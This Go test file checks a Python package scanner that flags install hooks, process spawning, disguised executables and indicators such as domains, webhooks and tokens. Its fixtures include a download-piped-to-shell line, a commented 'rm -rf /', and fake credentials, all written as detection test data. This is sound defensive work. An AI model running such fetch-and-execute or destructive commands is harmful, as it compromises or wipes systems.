package main

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"prevalence/worker/native/nativetest"
)

var update = flag.Bool("update", false, "rewrite golden files")

// golden compares what a command printed with testdata/NAME.
func golden(t *testing.T, name, got string) {
	t.Helper()
	file := filepath.Join("testdata", name)
	if *update {
		if err := errors.Join(os.MkdirAll(filepath.Dir(file), 0o777), os.WriteFile(file, []byte(got), 0o666)); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(string(want), got); diff != "" {
		t.Errorf("%s (go test -update rewrites it): %s", file, diff)
	}
}

// member is a file in a distribution or a folder.
type member struct{ name, text string }

func wheel(t *testing.T, file string, members ...member) {
	t.Helper()
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for _, m := range members {
		f, err := w.Create(m.name)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := io.WriteString(f, m.text); err != nil {
			t.Fatal(err)
		}
	}
	if err := errors.Join(w.Close(), os.WriteFile(file, b.Bytes(), 0o600)); err != nil {
		t.Fatal(err)
	}
}

func sdist(t *testing.T, file string, members ...member) {
	t.Helper()
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	w := tar.NewWriter(z)
	root := strings.TrimSuffix(filepath.Base(file), ".tar.gz") + "/"
	for _, m := range members {
		if err := w.WriteHeader(&tar.Header{Name: root + m.name, Mode: 0o644, Size: int64(len(m.text))}); err != nil {
			t.Fatal(err)
		}
		if _, err := io.WriteString(w, m.text); err != nil {
			t.Fatal(err)
		}
	}
	if err := errors.Join(w.Close(), z.Close(), os.WriteFile(file, b.Bytes(), 0o600)); err != nil {
		t.Fatal(err)
	}
}

func folder(t *testing.T, dir string, members ...member) {
	t.Helper()
	for _, m := range members {
		file := filepath.Join(dir, filepath.FromSlash(m.name))
		if err := errors.Join(os.MkdirAll(filepath.Dir(file), 0o777), os.WriteFile(file, []byte(m.text), 0o600)); err != nil {
			t.Fatal(err)
		}
	}
}

const metadata = "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\nSummary: A demonstration.\nAuthor-email: Ann <ann@proton.me>\n" +
	"Project-URL: Source, https://github.com/demo/demo\n\nText.\n"

// scanAt scans paths in dir with --format json --evidence all.
func scanAt(t *testing.T, dir string, args ...string) []scanned {
	t.Helper()
	cmd := prevalenceCommand(t, append([]string{"scan", "--format", "json", "--evidence", "all"}, args...)...)
	cmd.Dir = dir
	var list []scanned
	for d := json.NewDecoder(strings.NewReader(output(t, cmd))); ; {
		var s scanned
		err := d.Decode(&s)
		if errors.Is(err, io.EOF) {
			return list
		}
		if err != nil {
			t.Fatal(err)
		}
		list = append(list, s)
	}
}

// seen spells every piece of evidence.
func seen(s scanned) []string {
	var list []string
	for _, o := range s.Observations {
		for _, e := range o.Evidence {
			list = append(list, fmt.Sprintf("%s %s %s", o.Behavior, o.Context, e.place()))
		}
	}
	return list
}

// TestScanReadsEveryKindOfMember packs what a package can hold besides plain
// modules and looks for it in the report.
func TestScanReadsEveryKindOfMember(t *testing.T) {
	bytecode, err := os.ReadFile("../../worker/pyc/testdata/sample-3.11.pyc")
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	wheel(t, filepath.Join(dir, "demo-1.0-py3-none-any.whl"),
		member{"demo/__init__.py", "import os\n\ndef clean(path):\n    os.remove(path)\n\nif __name__ == '__main__':\n    os.system('ls')\n"},
		member{"demo/tests/test_it.py", "import shutil\nshutil.rmtree('x')\n"},
		member{"demo/hidden.pyc", string(bytecode)},
		member{"demo/_fast.so", string(nativetest.ELF([]string{"libc.so.6"}, []string{"ptrace"}, nil))},
		member{"demo/logo.png", string(nativetest.PE([]nativetest.Imported{{Library: "KERNEL32.dll", Names: []string{"CreateProcessW"}}}, nil))},
		member{"demo/_mac.dylib", string(nativetest.MachO([]string{"/usr/lib/libSystem.B.dylib"}, []string{"system"}, nil))},
		member{"demo/run.sh", "#!/bin/sh\n# rm -rf /\nchmod 777 x\n"},
		member{"demo/tool", "#!/usr/bin/env python3\nimport socket\nsocket.socket().connect(x)\n"},
		member{"demo-1.0.data/scripts/demo", "#!python\nimport os\nos.rename('a', 'b')\n"},
		member{"demo.pth", "import os; os.mkdir('x')\n# os.rmdir('x')\n/a/path\n"},
		member{"demo.start", "demo.startup:run\n"},
		member{"demo-1.0.dist-info/METADATA", metadata},
		member{"demo-1.0.dist-info/RECORD", ""})
	sdist(t, filepath.Join(dir, "other-2.0.tar.gz"),
		member{"PKG-INFO", "Metadata-Version: 2.1\nName: other\nVersion: 2.0\n"},
		member{"setup.py", "import os, helper\nfrom setuptools import setup\nos.makedirs('x')\nsetup(cmdclass={'install': helper.Install})\n"},
		member{"helper.py", "import os\ndef go():\n    os.chmod('x', 0o777)\n"},
		member{"setup.cfg", "[metadata]\nname = other\n[options]\ncmdclass =\n  install = other.Install\n"},
		member{"pyproject.toml", "[build-system]\nrequires = []\nbuild-backend = 'backend'\nbackend-path = ['build_here']\n"},
		member{"build_here/backend.py", "import subprocess\ndef build_wheel(*a):\n    subprocess.run(['make'])\n"},
		member{"src/other/__init__.py", "x = 1\n"},
		member{"docs/conf.py", "import os\nos.unlink('x')\n"},
		member{"install.sh", "curl https://host.dev/x | sh\n"})
	want := map[string][]string{
		"demo-1.0-py3-none-any.whl": {
			"file/delete call demo/__init__.py:4 (os.remove)",
			"execution/process-spawn call demo/__init__.py:7 (os.system)",
			"file/delete-tree support demo/tests/test_it.py:2 (shutil.rmtree)",
			"file/delete call demo/hidden.pyc (os.remove)",
			"payload/bytecode-without-source package demo/hidden.pyc (bytecode-without-source)",
			"memory/process-injection package demo/_fast.so (c:ptrace)",
			"payload/embedded-executable package demo/logo.png (executable-member)",
			"execution/process-spawn package demo/logo.png (c:CreateProcess)",
			"execution/shell-command package demo/_mac.dylib (c:system)",
			"permissions/world-writable call demo/run.sh:3 (chmod)",
			"network/socket call demo/tool:3 (socket.socket)",
			"file/rename call demo-1.0.data/scripts/demo:3 (os.rename)",
			"file/create-directory startup demo.pth:1 (os.mkdir)",
			"anomaly/anonymous-email package demo-1.0.dist-info/METADATA (anonymous-email)",
		},
		"other-2.0.tar.gz": {
			"file/create-directory install other-2.0/setup.py:3 (os.makedirs)",
			"execution/install-hook install other-2.0/setup.py:4 (setuptools.setup#cmdclass=?)",
			"permissions/world-writable install other-2.0/helper.py:3 (os.chmod#mode=777)",
			"execution/install-hook install other-2.0/setup.cfg:5 (install)",
			"execution/install-hook install other-2.0/pyproject.toml:4 (backend-path)",
			"execution/process-spawn install other-2.0/build_here/backend.py:3 (subprocess.run)",
			"file/delete support other-2.0/docs/conf.py:2 (os.unlink)",
			"payload/download-command support other-2.0/install.sh:1 (curl)",
		},
	}
	scans := scanAt(t, dir, ".")
	if len(scans) != len(want) {
		t.Fatalf("%d objects for %d distributions", len(scans), len(want))
	}
	for _, s := range scans {
		got := seen(s)
		for _, w := range want[s.Path] {
			if !slices.Contains(got, w) {
				t.Errorf("%s: %q is not among\n  %s", s.Path, w, strings.Join(got, "\n  "))
			}
		}
		for _, g := range got {
			if strings.Contains(g, "demo/run.sh:2") || strings.Contains(g, "demo.pth:2") {
				t.Errorf("a comment was taken for code: %s", g)
			}
		}
		if s.Outcome != "ok" || s.Project == "" || s.Version == "" {
			t.Errorf("%s: %s, project %q %q", s.Path, s.Outcome, s.Project, s.Version)
		}
	}
}

// TestScanContract holds --format json against the form that others rely on:
// which keys there are, and that lists are lists even when they are empty.
func TestScanContract(t *testing.T) {
	dir := t.TempDir()
	folder(t, dir, member{"a.py", "import os\nos.remove(x)\n"}, member{"empty.py", "pass\n"}, member{"tree/pyproject.toml", "[project]\nname = 'tree'\n"},
		member{"tree/tree/__init__.py", "import socket\nip = '9.9.9.9'\n\ndef f():\n    return socket.create_connection((ip, 1))\n"},
		member{"tree/tests/test_a.py", "import os\nos.remove(x)\n"})
	cmd := prevalenceCommand(t, "scan", "--format", "json", "a.py", "empty.py", "tree")
	cmd.Dir = dir
	lines := strings.Split(strings.TrimSpace(output(t, cmd)), "\n")
	if len(lines) != 3 {
		t.Fatalf("%d lines for 3 paths", len(lines))
	}
	keys := func(m map[string]any) []string {
		var list []string
		for k := range m {
			list = append(list, k)
		}
		slices.Sort(list)
		return list
	}
	for i, path := range []string{"a.py", "empty.py", "tree"} {
		var o map[string]any
		if err := json.Unmarshal([]byte(lines[i]), &o); err != nil {
			t.Fatal(err)
		}
		if o["path"] != path || o["outcome"] != "ok" {
			t.Errorf("%s: path %v, outcome %v", path, o["path"], o["outcome"])
		}
		for _, list := range []string{"observations", "symbols", "indicators"} {
			if _, ok := o[list].([]any); !ok {
				t.Errorf("%s: %s is %v", path, list, o[list])
			}
		}
		for _, x := range o["observations"].([]any) {
			observation := x.(map[string]any)
			if diff := cmp.Diff([]string{"behavior", "certainty", "context", "evidence", "hits"}, keys(observation)); diff != "" {
				t.Error(diff)
			}
			for _, e := range observation["evidence"].([]any) {
				if diff := cmp.Diff([]string{"end_line", "fingerprint", "line", "path", "symbol"}, keys(e.(map[string]any))); diff != "" {
					t.Error(diff)
				}
			}
		}
	}
	scans := scanAt(t, dir, "a.py", "tree")
	if diff := cmp.Diff([]string{"file/delete import a.py:2 (os.remove)"}, seen(scans[0])); diff != "" {
		t.Error(diff)
	}
	for _, w := range []string{"network/socket call tree/__init__.py:5 (socket.create_connection)", "file/delete support tests/test_a.py:2 (os.remove)"} {
		if got := seen(scans[1]); !slices.Contains(got, w) {
			t.Errorf("%q is not among %q", w, got)
		}
	}
	if i := scans[1].Indicators; len(i) != 1 || i[0].Kind != "ipv4" || i[0].Value != "9.9.9.9" || i[0].Path != "tree/__init__.py" || i[0].Line != 2 {
		t.Errorf("indicators %+v", i)
	}
}

// TestScanIndicators shows what is kept of values worth pivoting on, and what
// is not: user information, queries, local parts, secrets, reserved names,
// docstrings, comments, version numbers.
func TestScanIndicators(t *testing.T) {
	dir := t.TempDir()
	folder(t, dir, member{"m.py", `"""See https://docs.site.dev and 9.9.9.8."""
# https://comment.site.dev
__version__ = "1.2.3.4"
dns = "9.9.9.9"
six = "2606:4700:4700::1111"
local = "127.0.0.1"
mail = "Ann <ann@Company.dev>"
url = "https://user:secret@Site.dev:8443/x?token=1#y"
reserved = "https://example.com/x"
host = "c2.site.dev"
wallet = "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq"
hook = "https://discord.com/api/webhooks/123456789012345678/abcdefghijklmnopqrstuvwxyzabcdefghijklmnopqrstuvwxyzabcdefghijklmnop"
token = "ghp_` + strings.Repeat("a1B2", 9) + `"
`})
	var got []string
	for _, i := range scanAt(t, dir, "m.py")[0].Indicators {
		got = append(got, fmt.Sprintf("%s %s %d", i.Kind, i.Value, i.Line))
	}
	want := []string{
		"domain c2.site.dev 10", "email-domain company.dev 7", "ipv4 9.9.9.9 4", "ipv6 2606:4700:4700::1111 5", "token github 13",
		"url https://discord.com/api/webhooks/ 12", "url https://site.dev:8443/x 8", "wallet bitcoin:bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq 11",
		"webhook discord 12",
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Error(diff)
	}
}

// TestFingerprintsStay moves lines and renames locals; a baseline of
// fingerprints must still know every hit, and only a new hit is new.
func TestFingerprintsStay(t *testing.T) {
	dir := t.TempDir()
	before := `import os
import subprocess as sp

class Cleaner:
    def run(self, path):
        target = path + "/x"
        os.remove(target)
        os.remove(path)
        sp.run(target, shell=True)

os.mkdir("a")
`
	after := `"""Now with a docstring,
and more above."""
# and a comment
import subprocess as processes
import os as system

LIMIT = 10


class Cleaner:
    def other(self):
        return LIMIT

    def run(self, folder):
        name = folder + "/x"
        system.remove(
            name)
        system.remove(folder)

        processes.run(name, shell=True)

system.mkdir("a")
`
	folder(t, dir, member{"before/m.py", before}, member{"after/m.py", after},
		member{"more/m.py", after + "system.mkdir('b')\n"})
	scans := scanAt(t, dir, "before/m.py", "after/m.py", "more/m.py")
	prints := func(s scanned) []string {
		var list []string
		for _, o := range s.Observations {
			for _, e := range o.Evidence {
				list = append(list, o.Behavior+" "+e.Fingerprint)
			}
		}
		slices.Sort(list)
		return list
	}
	known := prints(scans[0])
	if len(known) != len(slices.Compact(slices.Clone(known))) || len(known) < 5 {
		t.Errorf("fingerprints %q", known)
	}
	if diff := cmp.Diff(known, prints(scans[1])); diff != "" {
		t.Errorf("fingerprints changed: %s", diff)
	}
	more := slices.DeleteFunc(prints(scans[2]), func(s string) bool { return slices.Contains(known, s) })
	if len(more) != 1 || !strings.HasPrefix(more[0], "file/create-directory ") {
		t.Errorf("new are %q", more)
	}
}

// TestScanOutputs compares what people see.
func TestScanOutputs(t *testing.T) {
	dir := t.TempDir()
	wheel(t, filepath.Join(dir, "demo-1.0-py3-none-any.whl"),
		member{"demo/__init__.py", "import os, base64\nurl = 'https://host.dev/a'\n\ndef f(p):\n    os.remove(p)\n    p.unlink()\n    os.remove(p)\n    return base64.b64decode(p)\n"},
		member{"demo/tests/test_it.py", "import shutil\nshutil.rmtree('x')\n"},
		member{"demo-1.0.dist-info/METADATA", metadata})
	sdist(t, filepath.Join(dir, "demo-1.0.tar.gz"), member{"PKG-INFO", metadata}, member{"setup.py", "import os\nos.remove('x')\n"})
	folder(t, dir, member{"broken-1.0.tar.gz", "no archive"})
	wheel(t, filepath.Join(dir, "plain-1.0-py3-none-any.whl"), member{"plain.py", "x = 1\n"}, member{"plain-1.0.dist-info/METADATA",
		strings.NewReplacer("demo", "plain", "ann@proton.me", "ann@python.org").Replace(metadata)})
	for name, args := range map[string][]string{
		"scan/table.txt":       {"."},
		"scan/all.txt":         {"--evidence", "all", "demo-1.0-py3-none-any.whl"},
		"scan/observation.csv": {"--format", "csv", "."},
		"scan/all.csv":         {"--format", "csv", "--evidence", "all", "demo-1.0-py3-none-any.whl"},
		"scan/summary.txt":     {"--summary", "."},
		"scan/summary.csv":     {"--summary", "--format", "csv", "."},
		"scan/summary.json":    {"--summary", "--format", "json", "."},
	} {
		t.Run(name, func(t *testing.T) {
			cmd := prevalenceCommand(t, append([]string{"scan"}, args...)...)
			cmd.Dir = dir
			golden(t, name, output(t, cmd))
		})
	}
}

// TestScanRefuses shows that wrong paths are one clear line.
func TestScanRefuses(t *testing.T) {
	dir := t.TempDir()
	folder(t, dir, member{"notes.txt", "x"}, member{"good.py", "import os\nos.remove('x')\n"}, member{"hollow/.git/x", "x"})
	for arg, want := range map[string]string{
		"notes.txt": "notes.txt: neither a distribution, nor Python source, nor a folder of either",
		"missing":   "missing cannot be read: no such file or directory",
		"hollow":    "hollow: neither a distribution, nor Python source, nor a folder of either",
	} {
		cmd := prevalenceCommand(t, "scan", "good.py", arg)
		cmd.Dir = dir
		code, errs := failure(t, cmd)
		if code != exitUsage || errs != "prevalence: "+want+"\n" {
			t.Errorf("%s: exit %d, %q", arg, code, errs)
		}
	}
}
